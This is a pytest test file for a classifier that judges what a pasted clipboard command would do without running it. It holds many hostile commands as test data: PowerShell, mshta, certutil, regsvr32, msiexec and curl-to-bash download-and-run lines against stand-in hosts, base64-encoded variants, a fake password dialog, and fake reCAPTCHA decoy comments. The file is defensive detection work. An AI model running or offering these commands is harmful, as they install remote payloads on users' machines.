"""The clipboard command classifier: what a pasted command would do, read without running it."""

from __future__ import annotations

import base64
import time

import pytest

from spyglass.analyze.detect.commands import classify_command


def ps_encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


# text -> (kind, downloads_and_runs, techniques that must be there, urls)
DANGEROUS = {
    'powershell -w hidden -c "iwr https://x.example/s.ps1 | iex"': (
        "powershell",
        True,
        {"hidden-window", "invoke-expression", "download"},
        ["https://x.example/s.ps1"],
    ),
    "pwsh -Win h -NoP -c \"iex(New-Object Net.WebClient).DownloadString('http://1.2.3.4/')": (
        "powershell",
        True,
        {"hidden-window", "no-profile", "invoke-expression"},
        ["http://1.2.3.4/"],
    ),
    'powershell -c "Start-Process (iwr https://x.example/u.exe -OutFile u.exe)"': (
        "powershell",
        True,
        {"start-process", "download"},
        ["https://x.example/u.exe"],
    ),
    "mshta https://verify.example/captcha.hta": (
        "mshta",
        True,
        {"remote-script"},
        ["https://verify.example/captcha.hta"],
    ),
    'cmd /c "certutil -urlcache -f https://a.example/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe"': (
        "cmd",
        True,
        {"lolbin-download"},
        ["https://a.example/u.exe"],
    ),
    "cmd /c bitsadmin /transfer j https://a.example/u.exe %TEMP%\\u.exe": (
        "cmd",
        True,
        {"lolbin-download"},
        ["https://a.example/u.exe"],
    ),
    "regsvr32 /s /n /u /i:http://a.example/file.sct scrobj.dll": (
        "regsvr32",
        True,
        {"remote-dll"},
        ["http://a.example/file.sct"],
    ),
    "rundll32 \\\\files.example@SSL\\DavWWWRoot\\x.dll,Entry": (
        "rundll32",
        True,
        {"remote-dll"},
        [],
    ),
    "msiexec /q /i https://a.example/setup.msi": (
        "msiexec",
        True,
        {"remote-installer"},
        ["https://a.example/setup.msi"],
    ),
    "curl -fsSL https://evil.example/install.sh | bash": (
        "shell",
        True,
        {"pipe-to-shell"},
        ["https://evil.example/install.sh"],
    ),
    "wget -O- https://e.example/x | sh": (
        "shell",
        True,
        {"pipe-to-shell"},
        ["https://e.example/x"],
    ),
    'bash -c "$(curl -fsSL https://evil.example/i.sh)"': (
        "shell",
        True,
        {"pipe-to-shell"},
        ["https://evil.example/i.sh"],
    ),
    "curl -k -o /tmp/f https://api.example/f.sh && chmod +x /tmp/f && nohup bash /tmp/f &": (
        "shell",
        True,
        {"download-then-run"},
        ["https://api.example/f.sh"],
    ),
    "osascript -e 'do shell script \"curl -s https://e.example/a | sh\"'": (
        "osascript",
        True,
        {"applescript", "shell-in-applescript"},
        ["https://e.example/a"],
    ),
    'osascript -e \'display dialog "Password:" default answer "" with hidden answer\'': (
        "osascript",
        False,
        {"password-prompt"},
        [],
    ),
}


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_commands(text: str) -> None:
    kind, runs, techniques, urls = DANGEROUS[text]
    command = classify_command(text)

    assert command.kind == kind
    assert command.dangerous
    assert command.downloads_and_runs is runs
    assert techniques <= set(command.techniques)
    assert command.urls == urls


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("pip install requests", "text"),
        ("npm install react", "text"),
        ("python -m pip install requests", "text"),
        ("git clone https://github.com/psf/requests.git", "text"),
        ("curl -fsSL https://get.docker.com -o get-docker.sh", "download"),
        ("wget https://example.org/archive.tar.gz", "download"),
        ("Set-ExecutionPolicy RemoteSigned -Scope CurrentUser", "text"),
        ("0x7548c65b91797801AB6CaD2b49d7b19838b95E96", "text"),
        ("Hello, world", "text"),
    ],
)
def test_ordinary_text_is_not_dangerous(text: str, kind: str) -> None:
    command = classify_command(text)
    assert command.kind == kind
    assert not command.dangerous and not command.downloads_and_runs and command.stealth == []


def test_encoded_powershell_is_decoded_and_classified() -> None:
    inner = "iex (New-Object Net.WebClient).DownloadString('https://cdn.example/a.ps1')"
    for flag in ("-e", "-enc", "-EncodedCommand", "-ec", "/enc"):
        command = classify_command(f"powershell -NoP -W H {flag} {ps_encoded(inner)}")

        assert command.decoded == inner, flag
        assert command.inner is not None and command.inner.kind == "powershell"
        assert command.downloads_and_runs
        assert {"encoded-command", "hidden-window"} <= set(command.stealth)
        assert command.urls == ["https://cdn.example/a.ps1"]
        assert command.summary == (
            "PowerShell command (encoded, in a hidden window) that downloads and runs "
            "https://cdn.example/a.ps1"
        )


def test_execution_policy_is_not_an_encoded_command() -> None:
    command = classify_command(
        'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"'
    )
    assert "encoded-command" not in command.techniques
    assert "execution-policy-bypass" in command.techniques
    assert command.stealth == []
    assert command.downloads_and_runs


def test_base64_piped_into_a_shell_is_decoded() -> None:
    inner = "curl -fsSL https://files.example/u.sh | bash"
    blob = base64.b64encode(inner.encode()).decode()
    for text in (f"echo {blob} | base64 -d | bash", f'/bin/bash -c "$(echo {blob} | base64 -D)"'):
        command = classify_command(text)

        assert command.kind == "shell" and command.decoded == inner
        assert command.inner is not None and command.inner.kind == "shell"
        assert command.downloads_and_runs and "base64-decode" in command.stealth
        assert command.urls == ["https://files.example/u.sh"]


def test_a_bare_base64_blob_is_decoded_but_runs_nothing_itself() -> None:
    inner = 'powershell -w h -c "iwr https://x.example/p | iex"'
    command = classify_command(ps_encoded(inner))

    assert command.kind == "base64" and command.decoded == inner
    assert command.dangerous and not command.downloads_and_runs
    assert command.urls == ["https://x.example/p"]
    assert not classify_command(
        base64.b64encode(b"just some harmless words here").decode()
    ).dangerous


def test_decoy_comment_and_padding() -> None:
    text = (
        'powershell -w h -c "irm https://x.example/c | iex"'
        + " " * 60
        + "# ✅ ''I am not a robot - reCAPTCHA Verification ID: 2165''"
    )
    command = classify_command(text)

    assert command.decoy_comment == "✅ ''I am not a robot - reCAPTCHA Verification ID: 2165"
    assert {"decoy-comment", "padding", "hidden-window"} <= set(command.stealth)
    # A comment that is no fake verification is just a comment.
    assert (
        classify_command("curl -fsSL https://x.example/i.sh | sh # install").decoy_comment is None
    )


def test_conhost_headless_wraps_the_real_interpreter() -> None:
    command = classify_command(
        'conhost --headless powershell -c "irm https://a.example/p | iex" '
        "# ✅ I am not a robot - reCAPTCHA Verification ID: 1234"
    )
    assert command.kind == "powershell" and command.platform == "windows"
    assert {"headless-console", "decoy-comment"} <= set(command.stealth)


def test_schemeless_targets_are_extracted() -> None:
    command = classify_command("irm bun.sh/install.ps1 | iex")
    assert command.kind == "powershell" and command.downloads_and_runs
    assert command.urls == ["https://bun.sh/install.ps1"]
    assert command.hosts == ["bun.sh"]


@pytest.mark.parametrize(
    "text",
    [
        "curl -o x https://a.example/ && " * 3000,
        "curl " + "; a" * 30000,
        "curl" + " " * 100000 + "x",
        "curl " + "-a  " * 25000,
        "msiexec " * 12000,
        "# robot " * 12000,
    ],
    ids=["fetch-steps", "many-steps", "spaces", "flags", "program-names", "comment-marks"],
)
def test_hostile_text_is_classified_in_bounded_time(text: str) -> None:
    """Clipboard text is the page's to choose (up to 100 KB): no pattern may go quadratic."""
    started = time.perf_counter()
    classify_command(text)
    assert time.perf_counter() - started < 3.0
